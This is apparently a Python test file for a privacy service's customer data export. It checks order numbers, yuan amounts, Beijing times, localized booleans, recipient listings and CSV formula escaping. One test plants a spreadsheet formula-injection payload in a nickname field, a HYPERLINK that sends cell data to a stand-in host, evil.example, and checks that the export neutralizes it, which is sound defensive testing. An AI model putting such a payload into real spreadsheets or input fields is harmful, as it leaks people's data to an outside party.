"""The demo customer's real archive reads as a person expects (issue 16 item 5): children carry
their order number, money is yuan with the currency, times are Beijing time with the offset,
CSV booleans are words, descriptions match the contents, recipients are listed, memberships and
household settings are there; and a corrected nickname cannot run as a formula (issue 13
item 8)."""

import csv
import datetime as dt
import io
import json
import re
import zipfile

import pytest
from conftest import approver, bearer
from sqlalchemy import insert, select

from exports.worker import run_pending
from privacy_service.demo import seed
from privacy_service.demo import shop_schema as shop

NOW = dt.datetime(2026, 11, 1, 12, tzinfo=dt.UTC)
SHANGHAI = dt.timezone(dt.timedelta(hours=8))
MONEY = re.compile(r"^\u2212?\d+\.\d{2} [A-Z]{3}$")
ZONED = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+08:00$")


@pytest.fixture
def shop_db(app, rt, session):
    seed(session, rt.sources["shop"], customers=3, browsing_per_customer=40, now=NOW)
    engine = rt.sources["shop"]
    with engine.begin() as conn:  # make sure the demo customer has a refund to show
        order = conn.execute(
            select(shop.orders.c.id, shop.orders.c.total_cents)
            .where(shop.orders.c.customer_id == 1, shop.orders.c.status == "completed")
            .order_by(shop.orders.c.id)
        ).first()
        conn.execute(
            insert(shop.refunds).values(
                order_id=order.id,
                amount_cents=order.total_cents // 3,
                status="completed",
                reason="少发一件",
                created_at=NOW - dt.timedelta(days=30),
            )
        )
    return engine


def _export(verified, client, rt, **body) -> zipfile.ZipFile:
    rid, token = verified(**body)
    assert run_pending(rt.export_deps()) == 1
    answer = client.get(f"/api/v1/requests/{rid}/export", headers=bearer(token))
    assert answer.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(answer.data))
    assert archive.testzip() is None
    manifest = json.loads(archive.read("manifest.json"))
    assert {f["path"] for f in manifest["files"]} == set(archive.namelist()) - {"manifest.json"}
    return archive


def _json(archive, category) -> list[dict]:
    return json.loads(archive.read(f"{category}/{category}.json"))["records"]


def _csv(archive, category) -> list[dict]:
    text = archive.read(f"{category}/{category}.csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def _shanghai(value: dt.datetime) -> str:
    if value.tzinfo is None:
        value = value.replace(tzinfo=dt.UTC)
    return value.astimezone(SHANGHAI).isoformat()


def test_the_demo_customers_archive_is_readable(shop_db, verified, client, rt, repo_root):
    archive = _export(verified, client, rt)
    shots = repo_root / "test-artifacts"
    shots.mkdir(exist_ok=True)
    with zipfile.ZipFile(shots / "demo-export.zip", "w") as copy:  # for a person to look at
        for name in archive.namelist():
            copy.writestr(name, archive.read(name))
    with shop_db.connect() as conn:
        orders = {
            r.id: r for r in conn.execute(select(shop.orders).where(shop.orders.c.customer_id == 1))
        }
        parents = {
            (table.name, r.id): orders[r.order_id].order_no
            for table in (shop.order_items, shop.refunds, shop.customs_declarations)
            for r in conn.execute(select(table.c.id, table.c.order_id))
            if r.order_id in orders
        }
    kinds = {"order_items", "refunds", "customs_declarations"}

    # Every child row carries its order's number, in JSON and CSV.
    seen = set()
    for category in ("orders", "payments", "identity_documents"):
        for fmt in (_json, _csv):
            for record in fmt(archive, category):
                if record["record_type"] in kinds:
                    key = (record["record_type"], int(record["id"]))
                    assert record["order_no"] == parents[key], key
                    seen.add(record["record_type"])
    assert seen == kinds

    # Money: integers (fen) in JSON, yuan with the currency in CSV and HTML.
    by_id = {int(r["id"]): r for r in _csv(archive, "orders") if r["record_type"] == "orders"}
    for record in _json(archive, "orders"):
        if record["record_type"] == "orders":
            order = orders[record["id"]]
            assert record["total_cents"] == order.total_cents
            shown = by_id[record["id"]]["total_cents"]
            assert shown == f"{order.total_cents // 100}.{order.total_cents % 100:02d} CNY"
            # Times in Beijing time with the offset, the same in JSON and CSV.
            assert record["placed_at"] == _shanghai(order.placed_at)
            assert by_id[record["id"]]["placed_at"] == record["placed_at"]
            assert ZONED.match(record["placed_at"])
    for category, fields in (
        ("orders", ("total_cents", "unit_price_cents")),
        ("payments", ("balance_cents", "amount_cents")),
        ("memberships", ("annual_fee_cents",)),
    ):
        for row in _csv(archive, category):
            for field in fields:
                if row.get(field):
                    assert MONEY.match(row[field]), (field, row[field])
    first = min(orders.values(), key=lambda o: o.id)
    page = archive.read("html/orders-1.html").decode()
    assert f"<td>{first.total_cents // 100}.{first.total_cents % 100:02d} CNY</td>" in page
    assert f"<td>{_shanghai(first.placed_at)}</td>" in page
    assert "+00:00" not in page

    # Booleans are words in the CSV (the request was in Chinese), true/false in JSON.
    addresses = _csv(archive, "addresses")
    assert {r["is_default"] for r in addresses} == {"是", "否"}
    assert {r["is_default"] for r in _json(archive, "addresses")} == {True, False}
    for category in ("preferences", "memberships", "household", "reviews_profile"):
        for row in _csv(archive, category):
            assert not {"True", "False"} & set(row.values()), (category, row)

    # Descriptions promise only what is in the archive.
    ids = json.loads(archive.read("identity_documents/identity_documents.json"))
    assert "copy" not in ids["description"]["en"] and "照片" not in ids["description"]["zh-CN"]
    payments = json.loads(archive.read("payments/payments.json"))
    assert (
        "token" not in payments["description"]["en"]
        and "令牌" not in payments["description"]["zh-CN"]
    )

    # Memberships and household settings are there.
    assert _json(archive, "memberships")[0]["tier"] == "gold"
    household = _csv(archive, "household")[0]
    assert household["shared_addresses"] == "是" and household["monthly_limit_cents"] == (
        "2000.00 CNY"
    )

    # Who receives the data: only recipients of categories with records, with the country.
    recipients = json.loads(archive.read("recipients/recipients.json"))["recipients"]
    codes = {r["id"] for r in recipients}
    assert {"sellers", "carriers", "payment_providers", "customs_brokers"} <= codes
    mailer = next(r for r in recipients if r["id"] == "marketing_email")
    assert mailer["cross_border"] is True and mailer["country"]["code"] == "SG"
    rows = _csv(archive, "recipients")
    assert {(r["recipient"], r["category"]) for r in rows} >= {
        ("customs_brokers", "identity_documents"),
        ("carriers", "addresses"),
    }
    index = archive.read("index.html").decode()
    assert "Who receives your data" in index and "新加坡" in index
    readme = archive.read("README.md").decode()
    assert "## 谁接收您的信息 / Who receives your data" in readme
    assert json.loads(archive.read("manifest.json"))["built_at"].endswith("+08:00")
    assert "+00:00" not in readme and "+00:00" not in index
    assert "`396.00 CNY`" in readme and "Asia/Shanghai" in readme


def test_an_english_request_gets_yes_and_no(shop_db, verified, client, rt):
    archive = _export(verified, client, rt, language="en")
    assert {r["is_default"] for r in _csv(archive, "addresses")} == {"yes", "no"}


def test_a_corrected_nickname_cannot_run_as_a_formula(shop_db, verified, client, rt, runner, app):
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
    rid, _ = verified(
        type="correction",
        corrections=[{"category": "account", "field": "wechat_nickname", "value": evil}],
    )
    result = runner.invoke(args=["requests", "approve", rid, "--by", approver(app)])
    assert result.exit_code == 0, result.output
    archive = _export(verified, client, rt)
    account = next(r for r in _csv(archive, "account") if r["record_type"] == "customers")
    assert account["wechat_nickname"] == "'" + evil
    assert account["phone"] == "13800138000"  # digits only: untouched
    assert next(iter(_json(archive, "account")))["wechat_nickname"] == evil  # JSON as stored
